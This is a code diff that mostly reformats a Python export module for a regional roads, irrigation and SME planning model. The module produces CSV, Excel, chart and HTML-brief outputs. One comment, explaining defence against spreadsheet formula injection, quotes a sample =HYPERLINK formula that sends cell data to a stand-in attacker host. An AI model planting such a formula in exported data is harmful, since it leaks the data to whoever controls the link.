@@ -30,13 +30,26 @@ from ui.state import GROUPS
 #: The charts offered as images, in page order.
 CHART_IDS = figures.CHART_IDS
 #: The parameters that matter most for the results, shown in the brief.
-KEY_PARAMETERS = ("infra_elasticity", "road_trunk_cost_mln_som_per_km", "yield_ratio_irr",
-                  "irr_cost_new_mln_som_per_ha", "water_cap_ha", "sme_deadweight")
+KEY_PARAMETERS = (
+    "infra_elasticity",
+    "road_trunk_cost_mln_som_per_km",
+    "yield_ratio_irr",
+    "irr_cost_new_mln_som_per_ha",
+    "water_cap_ha",
+    "sme_deadweight",
+)
 #: Lever order of the sidebar (roads, irrigation, SMEs, context, programme years).
 SETTING_ORDER = tuple(k for _, keys in GROUPS for k in keys)
 EXPORT_WIDTH = 720
-RESULT_COLUMNS = ("year", *OUTPUTS, "grp_baseline", "grp_vs_baseline", "grp_programme_gain",
-                  "grp_construction_demand", "grp_lasting_gain")
+RESULT_COLUMNS = (
+    "year",
+    *OUTPUTS,
+    "grp_baseline",
+    "grp_vs_baseline",
+    "grp_programme_gain",
+    "grp_construction_demand",
+    "grp_lasting_gain",
+)
 XLSX_MIME = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
 #: First characters that make a spreadsheet read a cell as a formula ("CSV injection",
 #: OWASP): a scenario name ``=HYPERLINK("http://evil.test/?"&A1,"Click")`` would be a
@@ -64,6 +77,7 @@ def setting_label(key: str, lang: str) -> str:
 
 
 # --- results -------------------------------------------------------------------------------
+
 
 def results_frame(result: Result, lang: str) -> pd.DataFrame:
     """The yearly results, column headers translated with their units."""
@@ -113,37 +127,51 @@ def results_csv(result: Result, lang: str) -> bytes:
 def settings_frame(settings: Mapping[str, float], lang: str) -> pd.DataFrame:
     """Every setting: label, value, unit, default, and its language-neutral key."""
     tr = translate
-    rows = [{tr(lang, "export.setting"): tr(lang, f"lever.{k}.label"),
-             tr(lang, "export.value"): float(settings.get(k, ALL_SETTINGS[k].default)),
-             tr(lang, "export.unit"): tr(lang, f"unit.{k}"),
-             tr(lang, "export.default"): float(ALL_SETTINGS[k].default),
-             tr(lang, "export.key"): k} for k in SETTING_ORDER]
+    rows = [
+        {
+            tr(lang, "export.setting"): tr(lang, f"lever.{k}.label"),
+            tr(lang, "export.value"): float(settings.get(k, ALL_SETTINGS[k].default)),
+            tr(lang, "export.unit"): tr(lang, f"unit.{k}"),
+            tr(lang, "export.default"): float(ALL_SETTINGS[k].default),
+            tr(lang, "export.key"): k,
+        }
+        for k in SETTING_ORDER
+    ]
     return pd.DataFrame(rows)
 
 
 def parameters_frame(lang: str) -> pd.DataFrame:
     """The parameter values the model ran with (meaning and source in English)."""
     cols = ("name", "value", "low", "high", "unit", "kind", "confidence", "meaning", "source")
-    rows = [{translate(lang, f"about.col.{c}"): getattr(p, c) for c in cols}
-            for p in parameter_table()]
+    rows = [
+        {translate(lang, f"about.col.{c}"): getattr(p, c) for c in cols} for p in parameter_table()
+    ]
     return pd.DataFrame(rows)
 
 
-def results_xlsx(settings: Mapping[str, float], meta: Mapping[str, str], result: Result,
-                 link: str, lang: str, today: dt.date | None = None) -> bytes:
+def results_xlsx(
+    settings: Mapping[str, float],
+    meta: Mapping[str, str],
+    result: Result,
+    link: str,
+    lang: str,
+    today: dt.date | None = None,
+) -> bytes:
     """An Excel workbook: yearly results, the scenario settings, the parameters used."""
     from openpyxl.utils import get_column_letter
 
     tr = translate
     today = today or dt.date.today()
-    about = pd.DataFrame([
-        (tr(lang, "export.scenario_name"), scenario_name(settings, meta, lang)),
-        (tr(lang, "export.description"), meta.get("description") or ""),
-        (tr(lang, "export.model_version"), MODEL_VERSION),
-        (tr(lang, "export.language"), lang),
-        (tr(lang, "export.made"), today.isoformat()),
-        (tr(lang, "export.link"), link),
-    ])
+    about = pd.DataFrame(
+        [
+            (tr(lang, "export.scenario_name"), scenario_name(settings, meta, lang)),
+            (tr(lang, "export.description"), meta.get("description") or ""),
+            (tr(lang, "export.model_version"), MODEL_VERSION),
+            (tr(lang, "export.language"), lang),
+            (tr(lang, "export.made"), today.isoformat()),
+            (tr(lang, "export.link"), link),
+        ]
+    )
     buf = io.BytesIO()
     with pd.ExcelWriter(buf, engine="openpyxl") as xl:
         sheets = {
@@ -154,22 +182,33 @@ def results_xlsx(settings: Mapping[str, float], meta: Mapping[str, str], result:
         for name, frame in sheets.items():
             frame.to_excel(xl, sheet_name=name[:31], index=False)
         settings_sheet = tr(lang, "export.sheet_settings")[:31]
-        about.to_excel(xl, sheet_name=settings_sheet, index=False, header=False,
-                       startrow=len(SETTING_ORDER) + 2)
+        about.to_excel(
+            xl,
+            sheet_name=settings_sheet,
+            index=False,
+            header=False,
+            startrow=len(SETTING_ORDER) + 2,
+        )
         xlsx_text_cells(xl.book)  # names and descriptions come from outside
         for ws in xl.book.worksheets:
             ws.freeze_panes = "A2"
             for i, column in enumerate(ws.iter_cols(max_row=min(ws.max_row, 40)), start=1):
-                width = max((len(str(c.value)) for c in column if c.value is not None),
-                            default=8)
+                width = max((len(str(c.value)) for c in column if c.value is not None), default=8)
                 ws.column_dimensions[get_column_letter(i)].width = min(max(width + 2, 8), 60)
     return buf.getvalue()
 
 
 # --- charts --------------------------------------------------------------------------------
 
-def chart_spec(chart_id: str, result: Result, band: tuple[int, int], lang: str,
-               width: int = EXPORT_WIDTH, height: int | None = None) -> dict[str, Any]:
+
+def chart_spec(
+    chart_id: str,
+    result: Result,
+    band: tuple[int, int],
+    lang: str,
+    width: int = EXPORT_WIDTH,
+    height: int | None = None,
+) -> dict[str, Any]:
     """The chart as a Vega-Lite spec with a fixed width (there is no container to fit)."""
     size = {"width": width} | ({"height": height} if height else {})
     return figures.chart(chart_id, result, band, lang).properties(**size).to_dict()
@@ -180,8 +219,7 @@ def locale(lang: str) -> dict[str, Any]:
     return number_locale(translate(lang, "format.decimal"), translate(lang, "format.thousands"))
 
 
-def chart_file(chart_id: str, fmt: str, result: Result, band: tuple[int, int],
-               lang: str) -> bytes:
+def chart_file(chart_id: str, fmt: str, result: Result, band: tuple[int, int], lang: str) -> bytes:
     """The chart as PNG or SVG bytes."""
     spec = chart_spec(chart_id, result, band, lang)
     if fmt == "png":
@@ -193,8 +231,10 @@ def chart_file(chart_id: str, fmt: str, result: Result, band: tuple[int, int],
 
 # --- the brief -----------------------------------------------------------------------------
 
-def scenario_name(settings: Mapping[str, float], meta: Mapping[str, str], lang: str,
-                  preset_id: str | None = None) -> str:
+
+def scenario_name(
+    settings: Mapping[str, float], meta: Mapping[str, str], lang: str, preset_id: str | None = None
+) -> str:
     """The planner's name for the scenario, else the matching preset's, else "your own"."""
     name = (meta.get("name") or "").strip()
     if name:
@@ -208,23 +248,33 @@ def _kpi_rows(result: Result, year: int, lang: str) -> list[BriefRow]:
     rows = []
     for kpi in YEARLY_KPIS:
         value, base = value_at(result, kpi.id, year)
-        rows.append(BriefRow(translate(lang, f"kpi.{kpi.id}", year=year),
-                             fmt_num(base, kpi.digits, lang=lang),
-                             fmt_num(value, kpi.digits, lang=lang),
-                             kpi_change(value, base, kpi.digits, lang)))
+        rows.append(
+            BriefRow(
+                translate(lang, f"kpi.{kpi.id}", year=year),
+                fmt_num(base, kpi.digits, lang=lang),
+                fmt_num(value, kpi.digits, lang=lang),
+                kpi_change(value, base, kpi.digits, lang),
+            )
+        )
     dash = "–"
     na = translate(lang, "common.na")
 
     def num(value: float, digits: int = 0) -> str:
         return fmt_num(value, digits, lang=lang)
 
-    ratios = " / ".join(fmt_appraisal("ratio", s["bcr"], num, na)
-                        for s in result.appraisal.values())
+    ratios = " / ".join(
+        fmt_appraisal("ratio", s["bcr"], num, na) for s in result.appraisal.values()
+    )
     rows.append(BriefRow(translate(lang, "brief.bcr"), dash, ratios, dash))
     rows.append(BriefRow(translate(lang, "brief.npv"), dash, num(net_npv(result)), dash))
-    rows.append(BriefRow(translate(lang, "brief.eirr"), dash,
-                         fmt_appraisal("pct", result.appraisal[DEFAULT_RATE]["eirr"], num, na),
-                         dash))
+    rows.append(
+        BriefRow(
+            translate(lang, "brief.eirr"),
+            dash,
+            fmt_appraisal("pct", result.appraisal[DEFAULT_RATE]["eirr"], num, na),
+            dash,
+        )
+    )
     return rows
 
 
@@ -234,15 +284,31 @@ def _assumptions(lang: str) -> list[str]:
     for name in KEY_PARAMETERS:
         p = params[name]
         source = p.source  # whole: a planner must be able to look it up
-        out.append(translate(lang, "brief.assumption", name=translate(lang, f"brief.param.{name}"),
-                             value=fmt_short(p.value, lang), low=fmt_short(p.low, lang),
-                             high=fmt_short(p.high, lang), source=source))
+        out.append(
+            translate(
+                lang,
+                "brief.assumption",
+                name=translate(lang, f"brief.param.{name}"),
+                value=fmt_short(p.value, lang),
+                low=fmt_short(p.low, lang),
+                high=fmt_short(p.high, lang),
+                source=source,
+            )
+        )
     return out
 
 
-def brief_content(settings: Mapping[str, float], meta: Mapping[str, str], result: Result,
-                  year: int, link: str, lang: str, *, preset_id: str | None = None,
-                  today: dt.date | None = None) -> BriefContent:
+def brief_content(
+    settings: Mapping[str, float],
+    meta: Mapping[str, str],
+    result: Result,
+    year: int,
+    link: str,
+    lang: str,
+    *,
+    preset_id: str | None = None,
+    today: dt.date | None = None,
+) -> BriefContent:
     """Everything the one-page brief shows, translated and formatted for ``lang``."""
     tr = translate
     today = today or dt.date.today()
@@ -255,11 +321,17 @@ def brief_content(settings: Mapping[str, float], meta: Mapping[str, str], result
         scenario_description=(meta.get("description") or "").strip()
         or tr(lang, "brief.no_description"),
         levers_heading=tr(lang, "brief.levers"),
-        levers=[(setting_label(k, lang), fmt_setting(k, float(settings[k]), lang=lang))
-                for k in SETTING_ORDER],
+        levers=[
+            (setting_label(k, lang), fmt_setting(k, float(settings[k]), lang=lang))
+            for k in SETTING_ORDER
+        ],
         kpi_heading=tr(lang, "brief.kpis", year=year),
-        kpi_columns=(tr(lang, "brief.col_indicator"), tr(lang, "brief.col_baseline"),
-                     tr(lang, "brief.col_scenario"), tr(lang, "brief.col_difference")),
+        kpi_columns=(
+            tr(lang, "brief.col_indicator"),
+            tr(lang, "brief.col_baseline"),
+            tr(lang, "brief.col_scenario"),
+            tr(lang, "brief.col_difference"),
+        ),
         kpis=_kpi_rows(result, year, lang),
         chart_heading=tr(lang, "brief.chart"),
         chart_svg=chart_svg(spec, locale=locale(lang)),
@@ -273,7 +345,14 @@ def brief_content(settings: Mapping[str, float], meta: Mapping[str, str], result
     )
 
 
-def brief_html(settings: Mapping[str, float], meta: Mapping[str, str], result: Result,
-               year: int, link: str, lang: str, **kw: Any) -> str:
+def brief_html(
+    settings: Mapping[str, float],
+    meta: Mapping[str, str],
+    result: Result,
+    year: int,
+    link: str,
+    lang: str,
+    **kw: Any,
+) -> str:
     """The one-page brief as a self-contained, print-ready HTML page."""
     return build_brief_html(brief_content(settings, meta, result, year, link, lang, **kw))
